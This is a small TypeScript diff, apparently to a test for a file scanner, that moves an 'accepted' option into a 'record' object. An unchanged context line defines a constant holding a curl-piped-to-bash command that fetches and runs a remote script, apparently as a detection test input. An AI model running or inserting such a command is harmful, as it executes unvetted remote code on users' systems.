@@ -16,7 +16,7 @@ const scan = (files: Record<string, string | Uint8Array>, options: Options = {})
     files: Object.entries(files).map(([path, text]) => ({ path, size: text.length })),
     read: (path) => Buffer.from(files[path]!),
     names: options.names ?? NAMES,
-    accepted: options.accepted,
+    record: { accepted: options.accepted },
   })
 
 const PIPED = 'curl -s http://far.dev/a.sh | bash'
